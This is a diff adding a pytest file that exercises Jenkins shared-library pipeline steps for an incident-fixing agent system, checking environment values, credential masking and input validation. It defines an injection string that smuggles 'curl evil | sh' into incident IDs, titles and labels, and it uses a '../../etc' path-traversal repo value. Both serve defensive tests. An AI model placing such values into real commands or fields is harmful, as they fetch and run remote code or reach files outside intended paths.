@@ -1,0 +1,187 @@
+"""vars/ steps under Groovy 2.4.21 (Jenkins core's version) with recorded stub steps."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+ROOT = Path(__file__).resolve().parents[2]
+SHA = "4f2c1d8e9a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d"
+DIGEST = "sha256:" + "3" * 64
+EVIL = "x'; curl evil | sh; '"
+GITOPS = "https://gitlab.demo.pathops.io/shop/shop-frontend-gitops.git"
+
+CASES: dict[str, dict[str, Any]] = {
+    "evidence defaults": {"step": "scheduleEvidenceCollector",
+                          "config": {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS}},
+    "evidence production": {"step": "scheduleEvidenceCollector",
+                            "config": {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS,
+                                       "env": "production", "timeWindow": "1h", "workload": "deployment/shop-frontend",
+                                       "gitlabCredentialsId": "other-token"}},
+    "evidence missing app": {"step": "scheduleEvidenceCollector",
+                             "config": {"incidentId": "INC-1042", "gitopsRepo": GITOPS}},
+    "evidence evil incident": {"step": "scheduleEvidenceCollector",
+                               "config": {"app": "shop-frontend", "incidentId": EVIL, "gitopsRepo": GITOPS}},
+    "evidence bad env": {"step": "scheduleEvidenceCollector",
+                         "config": {"app": "shop-frontend", "incidentId": "INC-1", "gitopsRepo": GITOPS,
+                                    "env": "staging"}},
+    "fix schedule": {"step": "scheduleFixAgent",
+                     "config": {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS,
+                                "snapshotId": "snap-" + "a" * 32,
+                                "image": f"harbor.demo.pathops.io/pathops/agents/fix-shop-frontend:x@{DIGEST}"}},
+    "fix schedule without digest": {"step": "scheduleFixAgent",
+                                    "config": {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS,
+                                               "snapshotId": "snap-" + "a" * 32,
+                                               "image": "harbor.demo.pathops.io/pathops/agents/fix:latest"}},
+    "build fix agent": {"step": "buildFixAgent",
+                        "config": {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS,
+                                   "srcRepo": "https://gitlab.demo.pathops.io/shop/shop-frontend.git",
+                                   "sourceCommitSha": SHA, "snapshotId": "snap-" + "a" * 32},
+                        "files": {"fix-agent-image.txt":
+                                  f"harbor.demo.pathops.io/pathops/agents/fix-shop-frontend@{DIGEST}\n"}},
+    "build fix agent short sha": {"step": "buildFixAgent",
+                                  "config": {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS,
+                                             "srcRepo": "https://gitlab.demo.pathops.io/shop/shop-frontend.git",
+                                             "sourceCommitSha": SHA[:12], "snapshotId": "snap-" + "a" * 32}},
+    "mr defaults": {"step": "createMrFromPatch",
+                    "config": {"srcRepo": "shop/shop-frontend", "sourceCommitSha": SHA,
+                               "patchId": "patch-" + "b" * 32, "changesetId": "CS-17"}},
+    "mr evil title": {"step": "createMrFromPatch",
+                      "config": {"srcRepo": "shop/shop-frontend", "sourceCommitSha": SHA,
+                                 "patchId": "patch-" + "b" * 32, "changesetId": "CS-17", "titlePrefix": EVIL,
+                                 "draft": False, "labels": ["team::shop", "sev::2"]}},
+    "mr evil label": {"step": "createMrFromPatch",
+                      "config": {"srcRepo": "shop/shop-frontend", "sourceCommitSha": SHA,
+                                 "patchId": "patch-" + "b" * 32, "changesetId": "CS-17", "labels": [EVIL]}},
+    "mr evil repo": {"step": "createMrFromPatch",
+                     "config": {"srcRepo": "shop/../../etc", "sourceCommitSha": SHA,
+                                "patchId": "patch-" + "b" * 32, "changesetId": "CS-17"}},
+    "verification": {"step": "scheduleVerificationAgent",
+                     "config": {"app": "shop-frontend", "verificationId": "VER-7", "gitopsRepo": GITOPS,
+                                "expectedCommitSha": SHA, "specFile": "deploy/verification.yaml"}},
+    "notify": {"step": "notifyControlPlane", "config": {"job": "create-mr-from-patch", "changesetId": "CS-17"}},
+    "notify bad status": {"step": "notifyControlPlane", "config": {"job": "x", "status": "exploded"}},
+}
+
+
+@pytest.fixture(scope="module")
+def results(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
+    groovy = shutil.which("groovy")
+    if groovy is None:
+        pytest.fail("groovy is missing: `make test` installs it (apt-get install groovy)")
+    cases = tmp_path_factory.mktemp("groovy") / "cases.json"
+    cases.write_text(json.dumps([{"name": name, **case} for name, case in CASES.items()]))
+    env = {**os.environ, "JAVA_HOME": os.environ.get("JAVA_HOME", "/usr/lib/jvm/java-17-openjdk-amd64")}
+    result = subprocess.run([groovy, str(Path(__file__).parent / "harness.groovy"), str(ROOT), str(cases)],
+                            capture_output=True, text=True, env=env, timeout=300, check=False)
+    assert result.returncode == 0, result.stderr
+    return {entry["name"]: entry for entry in json.loads(result.stdout.strip().splitlines()[-1])}
+
+
+def shells(result: dict[str, Any]) -> list[dict[str, Any]]:
+    return [call for call in result["calls"] if call["step"] == "sh"]
+
+
+def test_evidence_collector_defaults(results: dict[str, dict[str, Any]]) -> None:
+    (sh,) = shells(results["evidence defaults"])
+    assert sh["script"] == "gitops-patcher schedule" and not sh["interpolated"]
+    assert sh["env"] == {
+        "GITLAB_TOKEN": "****", "AGENT": "evidence-collector", "APP_ID": "shop-frontend", "ENV": "preflight",
+        "INCIDENT_ID": "INC-1042", "TARGET_NAMESPACE": "shop-frontend-preflight",
+        "AGENTS_NAMESPACE": "shop-frontend-agents", "TIME_WINDOW": "30m",
+        "AGENT_IMAGE": "harbor.demo.pathops.io/pathops/evidence-collector:0.1.0", "GITOPS_REPO_URL": GITOPS,
+        "GITOPS_BRANCH": "main", "MINIO_ENDPOINT": "https://minio.demo.pathops.io",
+        "MINIO_BUCKET": "pathops-evidence", "CONTROL_PLANE_URL": "https://control-plane.pathops.io"}
+    credentials = next(c for c in results["evidence defaults"]["calls"] if c["step"] == "withCredentials")
+    assert credentials["bindings"] == [{"type": "string", "credentialsId": "pathops-gitlab-token",
+                                        "variable": "GITLAB_TOKEN"}]
+
+
+def test_evidence_collector_options(results: dict[str, dict[str, Any]]) -> None:
+    (sh,) = shells(results["evidence production"])
+    assert sh["env"]["TARGET_NAMESPACE"] == "shop-frontend-production" and sh["env"]["ENV"] == "production"
+    assert sh["env"]["TIME_WINDOW"] == "1h" and sh["env"]["WORKLOAD"] == "deployment/shop-frontend"
+    credentials = next(c for c in results["evidence production"]["calls"] if c["step"] == "withCredentials")
+    assert credentials["bindings"][0]["credentialsId"] == "other-token"
+
+
+@pytest.mark.parametrize(("case", "message"), [
+    ("evidence missing app", "[scheduleEvidenceCollector] app is required"),
+    ("evidence evil incident", "[scheduleEvidenceCollector] incidentId is not a valid id"),
+    ("evidence bad env", "[scheduleEvidenceCollector] env is not a valid env"),
+    ("fix schedule without digest", "[scheduleFixAgent] image must be pinned by digest (name@sha256:...)"),
+    ("build fix agent short sha", "[buildFixAgent] sourceCommitSha is not a valid sha"),
+    ("mr evil label", "[createMrFromPatch] labels must be short words (letters, digits, : . _ -)"),
+    ("mr evil repo", "[createMrFromPatch] srcRepo is not a valid projectPath"),
+    ("notify bad status", "[notifyControlPlane] status must be a Jenkins build result"),
+])
+def test_malformed_parameters_are_refused_before_anything_runs(results: dict[str, dict[str, Any]], case: str,
+                                                                message: str) -> None:
+    assert results[case]["error"] == message
+    assert shells(results[case]) == []
+    assert not any(c["step"] == "withCredentials" for c in results[case]["calls"])
+
+
+def test_fix_agent_schedule_pins_the_digest(results: dict[str, dict[str, Any]]) -> None:
+    (sh,) = shells(results["fix schedule"])
+    assert sh["script"] == "gitops-patcher schedule"
+    assert sh["env"]["AGENT"] == "fix-agent" and sh["env"]["AGENT_IMAGE"].endswith(DIGEST)
+    assert sh["env"]["SNAPSHOT_ID"] == "snap-" + "a" * 32
+
+
+def test_build_fix_agent_builds_then_schedules_the_pushed_digest(results: dict[str, dict[str, Any]]) -> None:
+    result = results["build fix agent"]
+    build, schedule = shells(result)
+    assert build["script"] == "fix-agent build-image"
+    assert build["env"]["SOURCE_COMMIT_SHA"] == SHA and build["env"]["IMAGE_BUILDER"] == "buildah"
+    assert build["env"]["REGISTRY_USERNAME"] == build["env"]["REGISTRY_PASSWORD"] == "****"
+    assert build["env"]["HARBOR_REPO"] == "harbor.demo.pathops.io/pathops/agents"
+    assert schedule["script"] == "gitops-patcher schedule"
+    assert schedule["env"]["AGENT_IMAGE"] == f"harbor.demo.pathops.io/pathops/agents/fix-shop-frontend@{DIGEST}"
+    assert result["returned"] == schedule["env"]["AGENT_IMAGE"]
+    assert [c["step"] for c in result["calls"]].count("scheduleFixAgent") == 1
+
+
+def test_merge_request_step(results: dict[str, dict[str, Any]]) -> None:
+    (sh,) = shells(results["mr defaults"])
+    assert sh["script"] == "mr-creator create"
+    env = sh["env"]
+    assert {k: env[k] for k in ("GITLAB_TOKEN", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY",
+                                "CALLBACK_SIGNING_KEY")} == dict.fromkeys(
+        ("GITLAB_TOKEN", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "CALLBACK_SIGNING_KEY"), "****")
+    assert env["SRC_REPO"] == "shop/shop-frontend" and env["PATCH_ID"] == "patch-" + "b" * 32
+    assert env["MR_DRAFT"] == "true" and env["MR_LABELS"] == ""
+    assert env["CONTROL_PLANE_CALLBACK_URL"] == "https://control-plane.pathops.io/webhooks/jenkins"
+
+
+def test_hostile_text_reaches_the_shell_only_as_an_environment_value(results: dict[str, dict[str, Any]]) -> None:
+    (sh,) = shells(results["mr evil title"])
+    assert sh["script"] == "mr-creator create" and not sh["interpolated"]
+    assert sh["env"]["MR_TITLE_PREFIX"] == EVIL
+    assert sh["env"]["MR_DRAFT"] == "false" and sh["env"]["MR_LABELS"] == "team::shop,sev::2"
+    assert all(EVIL not in (call.get("script") or "") for call in results["mr evil title"]["calls"])
+
+
+def test_verification_step(results: dict[str, dict[str, Any]]) -> None:
+    (sh,) = shells(results["verification"])
+    assert sh["env"]["AGENT"] == "verification-agent" and sh["env"]["ENV"] == "preflight"
+    assert sh["env"]["EXPECTED_COMMIT_SHA"] == SHA and sh["env"]["VERIFICATION_SPEC_FILE"] == "deploy/verification.yaml"
+
+
+def test_notify_reports_the_build_result(results: dict[str, dict[str, Any]]) -> None:
+    (sh,) = shells(results["notify"])
+    assert sh["script"] == "pathops notify-job"
+    assert sh["env"]["JOB_STATUS"] == "failure" and sh["env"]["CHANGESET_ID"] == "CS-17"
+    assert sh["env"]["BUILD_URL_PATHOPS"] == "https://jenkins.demo.pathops.io/job/x/7/"
+
+
+def test_every_step_is_documented() -> None:
+    steps = sorted(p.stem for p in (ROOT / "vars").glob("*.groovy"))
+    assert steps == sorted(p.stem for p in (ROOT / "vars").glob("*.txt"))
+    assert steps == sorted({case["step"] for case in CASES.values()})
